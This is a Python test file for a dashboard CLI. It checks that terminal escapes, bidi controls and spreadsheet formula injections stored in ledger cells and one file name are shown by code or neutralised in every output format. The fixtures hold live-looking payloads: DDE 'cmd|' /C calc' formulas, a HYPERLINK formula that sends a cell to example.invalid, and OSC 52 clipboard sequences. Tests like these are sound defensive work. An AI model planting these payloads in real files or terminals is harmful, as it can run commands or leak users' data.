"""What a ledger cell holds is shown, never obeyed: every output surface on a hostile store.

A store is built from the bundled sample plus rows whose cells (and one file
name) carry terminal escape sequences (OSC 52 clipboard, cursor moves, screen
clears), C1 controls and bidi overrides, and cells that a spreadsheet would run
as formulas. Every surface of the command line is scanned for those characters
raw: query results in every format, named-query rows, an error quoting a cell,
the check and ingest summaries, drafts in every format with --explain --rows.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from dashboard import output
from dashboard.cli import app
from tests.conftest import SAMPLE_TODAY, write_csv
from tests.escapes import BIDI, C1, CLEAR, HOSTILE, INVISIBLE, OSC52, PAINT, raw_controls
from tests.privacy.surfaces import file_text

runner = CliRunner()

PET_H = ["编号", "受理日期", "投诉人", "联系电话", "反映问题", "级别", "办结日期", "被投诉对象"]
STUDY_H = ["会议日期", "会议类型", "主要负责人主持", "学法内容", "研究法治议题", "参会人数"]
FORMULAS = ['+HYPERLINK("http://example.invalid/?"&E2,"详情")', "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def hostile_exports(d: Path) -> Path:
    """Petitions whose cells (and one file's name) carry escapes and formulas; a study topic with escapes."""
    d.mkdir(parents=True, exist_ok=True)
    rows = []
    for i, text in enumerate([*HOSTILE, *FORMULAS[:3]], start=1):
        rows.append([f"XFH{i:03d}", "2025-05-01", f"投诉人{i}", f"138{i:08d}", text, "县级", "2025-05-20",
                     CLEAR + "某厂" if i == 1 else "某厂"])
    write_csv(d / "信访投诉台账（补）.csv", [PET_H, *rows])
    write_csv(d / "信访投诉\x1b[31m台账\r.csv", [PET_H, ["XFH900", "2025-06-01", "甲", "13800000000", "噪声", "县级",
                                                       "2025-06-10", "某厂"]])
    write_csv(d / "学法台账（补）.csv", [STUDY_H, ["2025年3月3日", "党组会议", "√", "《噪声法》" + OSC52 + BIDI, "√", 7]])
    return d


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path]:
    """(store, folder of the hostile exports)."""
    from dashboard import paths
    from dashboard.sources import ingest_paths

    base = tmp_path_factory.mktemp("hostile-output")
    extra = hostile_exports(base / "exports")
    db = base / "store.duckdb"
    ingest_paths([paths.sample_data_dir(), extra], db, today=SAMPLE_TODAY)
    return db, extra


def run(*args, out: Path | None = None) -> tuple[int, str]:
    argv = [str(a) for a in args] + (["-o", str(out)] if out is not None else [])
    res = runner.invoke(app, argv, env={"DASH_TODAY": SAMPLE_TODAY.isoformat()})
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    shown = res.stdout + res.stderr
    if out is not None and out.exists():
        shown += "\n" + file_text(out)
    return res.exit_code, shown


HOSTILE_ROWS = "SELECT petition_no, subject, summary FROM petitions WHERE petition_no LIKE 'XFH%' ORDER BY 1"


def test_the_store_keeps_the_raw_values(hostile):
    """The hostile text is really there (so the scans below can see what they look for)."""
    import duckdb

    con = duckdb.connect(str(hostile[0]), read_only=True)
    try:
        got = [r[0] for r in con.execute("SELECT summary FROM petitions WHERE petition_no LIKE 'XFH%' "
                                         "ORDER BY petition_no").fetchall()]
    finally:
        con.close()
    assert got[:len(HOSTILE)] == HOSTILE


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "md", "xlsx"])
@pytest.mark.parametrize("unmask", [False, True], ids=["masked", "unmasked"])
def test_query_results_show_escapes_in_every_format(hostile, tmp_path, fmt, unmask):
    out = tmp_path / "r.xlsx" if fmt == "xlsx" else None
    args = ["query", HOSTILE_ROWS, "--db", hostile[0], *(["-f", fmt] if out is None else []),
            *(["--unmask"] if unmask else [])]
    code, shown = run(*args, out=out)
    assert code == 0, shown
    assert raw_controls(shown) == [], shown
    assert "\\x1b]52;c;" in shown and "\\u202e" in shown or fmt == "json" and "\\u001b]52;c;" in shown


def test_json_keeps_the_exact_value(hostile):
    """JSON escapes are lossless: a program reading the output gets the cell as stored."""
    code, shown = run("query", HOSTILE_ROWS, "--db", hostile[0], "-f", "json", "--unmask")
    assert code == 0
    assert [r["summary"] for r in json.loads(shown)][:len(HOSTILE)] == HOSTILE


def test_named_query_rows_show_escapes(hostile):
    code, shown = run("query", "petitions_all", "--rows", "--year", "2025", "--db", hostile[0], "--all")
    assert code == 0 and "XFH001" in shown, shown[-500:]
    assert raw_controls(shown) == []


def test_an_error_quoting_a_cell_shows_its_escapes(hostile):
    code, shown = run("query", "SELECT CAST(summary AS INTEGER) FROM petitions WHERE petition_no = 'XFH002'",
                      "--db", hostile[0], "--unmask")
    assert code == 1 and shown.startswith("错误：") and "\\x1b[1;1H" in shown, shown
    assert raw_controls(shown) == []


@pytest.mark.parametrize("command", ["check", "ingest"])
def test_summaries_show_escapes_in_file_names(hostile, tmp_path, command):
    args = [command, hostile[1]] + (["--db", tmp_path / "s.duckdb"] if command == "ingest" else [])
    code, shown = run(*args)
    assert code == 0, shown
    assert "信访投诉\\x1b[31m台账\\x0d.csv" in shown
    assert raw_controls(shown) == []


@pytest.mark.parametrize("fmt", ["md", "txt", "docx"])
def test_drafts_show_escapes_in_every_format(hostile, tmp_path, fmt):
    out = tmp_path / f"d.{fmt}" if fmt == "docx" else None
    args = ["draft", "--year", "2025", "--db", hostile[0], *(["-f", fmt] if out is None else []), "--explain",
            "--rows"]
    code, shown = run(*args, out=out)
    assert code == 0, shown  # today: docx fails, "All strings must be XML compatible"
    assert "《噪声法》\\x1b]52;c;" in shown, shown[:2000]
    assert raw_controls(shown) == []


# ---------------------------------------------------------------- the sanitiser itself

UNSAFE = [chr(c) for c in [*range(0, 9), *range(11, 32), *range(0x7f, 0xa0), *range(0x202a, 0x202f),
                           *range(0x2066, 0x206a), *range(0x200b, 0x2010), 0x061c, 0x2060, 0xfeff]]


@given(st.text(alphabet=st.one_of(st.sampled_from(UNSAFE), st.characters()), max_size=40))
def test_safe_text_leaves_nothing_a_terminal_obeys(text):
    safe = output.safe_text(text)
    assert raw_controls(safe) == []
    assert output.safe_text(safe) == safe  # applying it twice changes nothing
    assert all(ch in safe for ch in text if ch not in UNSAFE)  # everything else stays


@given(st.text(max_size=40))
def test_docx_text_is_valid_xml(text):
    from lxml import etree

    el = etree.Element("t")
    el.text = output.docx_text(text)  # raises ValueError on a character XML cannot hold


def test_every_hostile_character_is_shown_by_its_code():
    assert output.safe_text("a\x1bb\x9bc\u202ed\x7fe\tf\ng\r") == "a\\x1bb\\x9bc\\u202ed\\x7fe\tf\ng\\x0d"


def test_invisible_marks_and_zero_width_characters_are_shown_by_their_code():
    assert output.safe_text(INVISIBLE) == ("甲\\u200e乙\\u200f丙\\u061c丁\\ufeff戊\\u200b己\\u200c庚\\u200d辛"
                                          "\\u2060壬")
    assert raw_controls(output.docx_text(INVISIBLE)) == []
    for fmt in ("table", "md", "csv", "json"):
        assert raw_controls(output.render(["列" + INVISIBLE], [(INVISIBLE,)], fmt)) == [], fmt
    assert json.loads(output.render(["c"], [(INVISIBLE,)], "json"))[0]["c"] == INVISIBLE  # json keeps it exact


def test_a_tab_in_a_cell_is_not_written_raw_in_a_table_or_markdown():
    rows = [("甲\t乙", 1), ("\t", 2)]
    for fmt in ("table", "md"):
        shown = output.render(["a\tb", "n"], rows, fmt)
        assert "\t" not in shown, (fmt, shown)
        assert "甲\\t乙" in shown and "a\\tb" in shown, (fmt, shown)
    assert "\t" in output.safe_text("a\tb")  # elsewhere (drafts, messages) a tab stays
    assert "甲\t乙" in output.render(["a"], rows, "csv")  # csv keeps the value


# ---------------------------------------------------------------- spreadsheets

FORMULA_SQL = ("SELECT * FROM (VALUES ('=1+1', -5, '-5'), ('+HYPERLINK(\"http://x\")', 3, '+3.5'), "
               "('-2+3+cmd|'' /C calc''!A0', 0, '@SUM(1)'), ('\tTAB', 1, '普通')) AS t(text, n, numeric_text)")


def test_csv_output_guards_formula_cells_but_not_numbers(hostile):
    code, shown = run("query", FORMULA_SQL, "--db", hostile[0], "-f", "csv", "--no-bom")
    assert code == 0, shown
    rows = list(csv.reader(io.StringIO(shown)))
    assert rows == [["text", "n", "numeric_text"],
                    ["'=1+1", "-5", "-5"],
                    ["'+HYPERLINK(\"http://x\")", "3", "+3.5"],
                    ["'-2+3+cmd|' /C calc'!A0", "0", "'@SUM(1)"],
                    ["'\tTAB", "1", "普通"]]


def test_ledger_formula_cells_are_guarded_in_a_csv_file(hostile, tmp_path):
    out = tmp_path / "r.csv"
    code, shown = run("query", "SELECT summary FROM petitions WHERE petition_no LIKE 'XFH%' ORDER BY 1",
                      "--db", hostile[0], "--unmask", out=out)
    assert code == 0, shown
    cells = [r[0] for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))][1:]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
    assert "'" + FORMULAS[0] in cells


def test_xlsx_keeps_formula_looking_text_as_text(hostile, tmp_path):
    import openpyxl

    out = tmp_path / "r.xlsx"
    code, _ = run("query", FORMULA_SQL, "--db", hostile[0], out=out)
    assert code == 0
    ws = openpyxl.load_workbook(out).active
    cells = [(c.value, c.data_type) for c in ws["A"][1:]]
    assert cells == [("=1+1", "s"), ('+HYPERLINK("http://x")', "s"), ("-2+3+cmd|' /C calc'!A0", "s"),
                     ("\tTAB", "s")]


@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "file"])
def test_csv_starts_with_a_bom_unless_no_bom(hostile, tmp_path, to_file):
    def csv_bytes(*extra: str) -> bytes:
        out = tmp_path / "r.csv"
        res = runner.invoke(app, ["query", "SELECT 1 AS n", "--db", str(hostile[0]), "-f", "csv", *extra,
                                  *(["-o", str(out)] if to_file else [])])
        assert res.exit_code == 0, res.output
        return out.read_bytes() if to_file else res.stdout_bytes

    assert csv_bytes() == b"\xef\xbb\xbfn\n1\n"
    assert csv_bytes("--no-bom") == b"n\n1\n"


def test_schema_csv_has_the_bom_too():
    res = runner.invoke(app, ["schema", "-f", "csv"])
    assert res.exit_code == 0 and res.stdout.startswith("\ufeff表,")
